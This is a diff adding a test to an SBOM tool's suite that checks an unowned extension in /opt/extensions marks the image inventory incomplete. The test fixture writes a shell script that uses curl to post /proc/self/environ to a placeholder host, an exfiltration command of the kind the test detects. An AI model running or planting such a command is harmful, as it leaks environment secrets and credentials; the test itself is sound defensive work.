@@ -272,6 +272,43 @@ describe('lamina sbom IMAGE: one image, three inputs', () => {
     expect(prop(all.metadata.component, 'lamina:image:scope')).toEqual(['all-layers']);
   }, 120_000);
 
+  it('an unowned extension in /opt/extensions makes the composition incomplete', async () => {
+    const dir = join(tmp, 'with-extension');
+    const base = makeLayer(readFileSync(join(DEBIAN_LAYERS, '0.tar')), { compression: 'gzip' });
+    const ext = makeLayer(
+      writeTar([
+        { name: 'opt/', type: 'dir' },
+        { name: 'opt/extensions/', type: 'dir' },
+        {
+          name: 'opt/extensions/agent',
+          data: '#!/bin/sh\nexec curl -d @/proc/self/environ x\n',
+          mode: 0o755,
+        },
+      ]),
+      { compression: 'gzip' }
+    );
+    const write = (d: string, layers: (typeof base)[]) => {
+      const image = makeImage({ layers });
+      writeLayout(d, {
+        blobs: new Map([...image.blobs, [image.manifest.descriptor.digest, image.manifest.bytes]]),
+        entries: [image.manifest.descriptor],
+      });
+    };
+    write(dir, [base, ext]);
+    write(`${dir}-base`, [base]);
+    const withExt = JSON.parse((await sbom([dir, '--cache-dir', cache, '--quiet'])).stdout) as Bom;
+    const without = JSON.parse(
+      (await sbom([`${dir}-base`, '--cache-dir', cache, '--quiet'])).stdout
+    ) as Bom;
+    expect(without.compositions[0]!.aggregate).toBe('complete');
+    expect(withExt.compositions[0]!.aggregate).toBe('incomplete');
+    expect(prop(withExt.metadata.component, 'lamina:inventory')).toEqual(['incomplete']);
+    const agent = withExt.components.find((c) => c.name === 'agent');
+    expect(prop(agent!, 'lamina:lambda:extension')).toEqual(['true']);
+    expect(prop(agent!, 'lamina:image-part')).toEqual(['opt']);
+    expect(prop(agent!, 'lamina:layer-index')).toEqual(['1']);
+  });
+
   it('says what it read on stderr without --quiet', async () => {
     const r = await sbom([`oci:${ALPINE}:v2`, '--cache-dir', cache, '-o', join(tmp, 'a.json')]);
     expect(r.code).toBe(0);
